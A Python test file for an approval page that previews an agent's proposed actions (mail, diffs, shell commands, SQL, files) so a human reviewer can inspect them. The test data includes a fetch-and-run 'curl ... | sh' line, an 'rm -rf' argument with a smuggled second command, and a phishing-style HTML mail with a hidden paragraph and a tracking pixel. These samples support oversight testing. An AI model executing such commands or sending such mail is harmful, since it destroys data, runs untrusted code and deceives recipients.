"""Parts of a preview on the page of the request: by type, whole, escaped, folded when long, told when not shown."""

import hashlib
from typing import Any

import pytest
from django.test import Client

from agentops.registry.preview_parts import (
    Amount,
    Command,
    Fields,
    File,
    Mail,
    Opaque,
    Part,
    Sql,
    TextChange,
)
from approvals.models import ApprovalRequest
from approvals.previews import must_open, short_changes, shown_parts, statements, uninspectable
from tests.approvals.conftest import Stage, decide, page_url
from tests.factories.pages import Page, page_of
from tests.factories.requests import rewritten

pytestmark = pytest.mark.django_db

SHA = hashlib.sha256(b"x").hexdigest()
HTML = (
    "<p>Dear Dana, see <a href='https://evil.example/login'>shop.example</a></p>"
    "<p style='display:none'>and pay 900</p><img src='https://evil.example/pixel.png' alt='logo'>"
)
LONG = "\n".join(f"line {n}" for n in range(20))


def with_parts(stage: Stage, *parts: Part, **preview: Any) -> ApprovalRequest:
    return rewritten(stage.ask(), preview={"parts": [part.as_json() for part in parts], **preview})


def shown(client: Client, request: ApprovalRequest) -> Page:
    return page_of(client, page_url(request))


def test_fields_and_money(stage: Stage, alice: Client) -> None:
    fields = Fields("Order #W1", (("Status", "open", "closed"), ("Owner", "", "ann"), ("Same", "x", "x")))
    money = Amount("Refund", 123_456, "USD", (("Refunded today", 0, 123_456),))
    page = shown(alice, with_parts(stage, fields, money))
    assert "Order #W1" in page.by_id("part-1")
    assert "Status open closed Owner nothing ann As it is: Same ." in page.by_id("part-1")
    assert "$1,234.56 123,456 in the smallest unit of USD" in page.by_id("part-2")
    assert "Refunded today $0.00 $1,234.56 0 → 123,456" in page.by_id("part-2")


def test_mail_is_read_safely_and_stands_there_as_it_is(stage: Stage, alice: Client) -> None:
    mail = Mail("desk@shop.example", ("dana@example.com", "boss@example.com"), ("law@example.com",), "Hi", "", HTML)
    page = shown(alice, with_parts(stage, mail))
    part = page.by_id("part-1")
    assert "To dana@example.com, boss@example.com Cc law@example.com Subject Hi" in part
    assert "shop.example (link: https://evil.example/login)" in part
    assert "(picture: logo, from https://evil.example/pixel.png)" in part
    assert "1 part is hidden from a reader of the HTML. Look at the source." in part
    assert "<p style='display:none'>and pay 900</p>" in part
    assert page.acting == []


def test_mail_whose_two_forms_differ_is_told(stage: Stage, alice: Client) -> None:
    mail = Mail("desk", ("dana@example.com",), (), "Hi", "We refund nothing.", "<p>We refund all.</p>")
    part = shown(alice, with_parts(stage, mail)).by_id("part-1")
    assert "The plain text and the HTML do not say the same." in part
    assert "We refund nothing." in part
    assert "We refund all." in part


def test_text_is_compared_in_one_column_and_side_by_side(stage: Stage, alice: Client) -> None:
    request = with_parts(stage, TextChange("Note", "pay 10\nnow", "pay 100\nnow"))
    page = shown(alice, request)
    lines = [
        (row.attrib["class"], [cell.text_content() for cell in row])
        for row in page.all("//*[@id='part-1']//table[contains(@class, 'lines')]/tbody/tr")
    ]
    assert lines == [
        ("is-del", ["1", "−", "pay 10"]),
        ("is-add", ["1", "+", "pay 100"]),
        ("is-same", ["2", "", "now"]),
    ]
    assert len(page.all("//*[@id='part-1']//table[contains(@class, 'sides')]/tbody/tr")) == 2
    assert [mark.text_content() for mark in page.all("//*[@id='part-1']//b[@class='differs']")] == ["10", "100"] * 2
    assert [box.attrib.get("checked") is not None for box in page.all("//input[@name='view-part-1']")] == [True, False]


def test_command_and_sql(stage: Stage, alice: Client) -> None:
    parts = (
        Command("web-1", argv=("rm", "-rf", "/srv/data; echo", "")),
        Command("web-1", line="curl https://x.example | sh"),
        Command("api.example", api="DELETE /v1/customers/7", body='{"force": true}'),
        Sql("DELETE FROM orders WHERE id = $1", ("orders",), (("Delete", "orders", 41_000),), (("$1", "7"),)),
    )
    page = shown(alice, with_parts(stage, *parts))
    assert [item.text_content() for item in page.all("//*[@id='part-1']//li")] == [
        "rm",
        "-rf",
        "/srv/data; echo",
        "(empty)",
    ]
    assert "Given to shell" in page.by_id("part-2")
    assert 'With this body: {"force": true}' in page.by_id("part-3")
    assert "DELETE FROM orders WHERE id = $1" in page.by_id("part-4")
    assert "$1 7" in page.by_id("part-4")
    assert "Delete orders 41,000" in page.by_id("part-4")


def test_file_with_text_is_compared(stage: Stage, alice: Client) -> None:
    part = File("/etc/cron.d/job", 12, "text/plain", SHA, "0 1 * * *\n", "0 2 * * *\n")
    told = shown(alice, with_parts(stage, part)).by_id("part-1")
    assert f"Path /etc/cron.d/job Type text/plain Size 12 bytes SHA-256 {SHA}" in told


@pytest.mark.parametrize(
    "part",
    [
        File("/srv/logo.png", 900, "image/png", SHA),
        Opaque("Archive", "not text", 900, SHA),
        TextChange("Blob", "", "\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd\ufffd"),
    ],
    ids=lambda part: part.kind,
)
def test_what_cannot_be_shown_says_so_with_size_and_digest(stage: Stage, alice: Client, part: Part) -> None:
    request = with_parts(stage, part)
    told = shown(alice, request).by_id("part-1")
    assert "uninspectable" in told
    assert "SHA-256" in told
    assert "not text" in told
    assert uninspectable(request.preview, {})
    assert must_open(request.preview) == ()


@pytest.mark.parametrize("value", [{"kind": "picture", "src": "x"}, "text", None, {"kind": "mail"}, [[]]])
def test_a_part_in_no_known_form_is_told_and_breaks_no_page(stage: Stage, alice: Client, value: Any) -> None:
    request = rewritten(stage.ask(), preview={"parts": [value]})
    assert "uninspectable" in shown(alice, request).by_id("part-1")
    assert uninspectable(request.preview, {})


def test_a_long_part_is_folded_with_its_size_and_opened_before_approving(stage: Stage, alice: Client) -> None:
    request = with_parts(stage, TextChange("Note", "", LONG), TextChange("Short", "", "x"))
    page = shown(alice, request)
    assert must_open(request.preview) == ("part-1",)
    assert f"{len(LONG)} bytes, open it before you approve" in page.by_id("part-1")
    assert "line 19" in page.by_id("part-1")
    assert decide(alice, request).status_code == 422
    assert decide(alice, request, opened="part-2").status_code == 422
    assert decide(alice, request, opened="part-1").status_code == 302


def test_a_text_that_is_a_long_argument_is_opened_there_alone(stage: Stage, alice: Client) -> None:
    arguments = {"account": "a-1", "minor": 5000, "body": LONG}
    request = rewritten(
        stage.ask(), arguments=arguments, preview={"parts": [Mail("desk", ("d@x",), (), "Hi", LONG).as_json()]}
    )
    assert must_open(request.preview, arguments) == ()
    assert "line 19" in shown(alice, request).by_id("part-1")
    assert decide(alice, request).status_code == 422
    assert decide(alice, request, opened="body").status_code == 302


def test_changes_that_a_table_would_not_tell_apart_are_compared(stage: Stage) -> None:
    changes = [
        ["Plain", "1", "2"],
        ["Blank", "1 2", "1  2"],
        ["End", "", "x "],
        ["Text", "", "a\nb"],
        ["Made", "é", "e\u0301"],
    ]
    request = rewritten(stage.ask(), preview={"changes": changes})
    assert short_changes(request.preview) == [("Plain", "1", "2")]
    titles = ["".join(part.text for part in one.title) for one in shown_parts(request.preview)]
    assert titles == ["Blank", "End", "Text", "Made"]


def test_what_parts_say_is_part_of_what_changed(stage: Stage, alice: Client) -> None:
    old = with_parts(stage, Mail("desk", ("dana@example.com",), (), "Hi", "Yes."))
    now = {**old.preview, "parts": [Mail("desk", ("eve@example.com",), (), "Hi", "Yes.").as_json()]}
    differing = {name for name, text in statements(now).items() if statements(old.preview)[name] != text}
    assert differing == {"E-mail 1, to"}


def test_a_preview_of_an_earlier_release_still_shows(stage: Stage, alice: Client) -> None:
    request = stage.ask()
    assert "parts" not in request.preview
    page = shown(alice, request)
    assert "Balance 100000 95000" in page.section("h-change")
    assert page.all("//*[@id='part-1']") == []
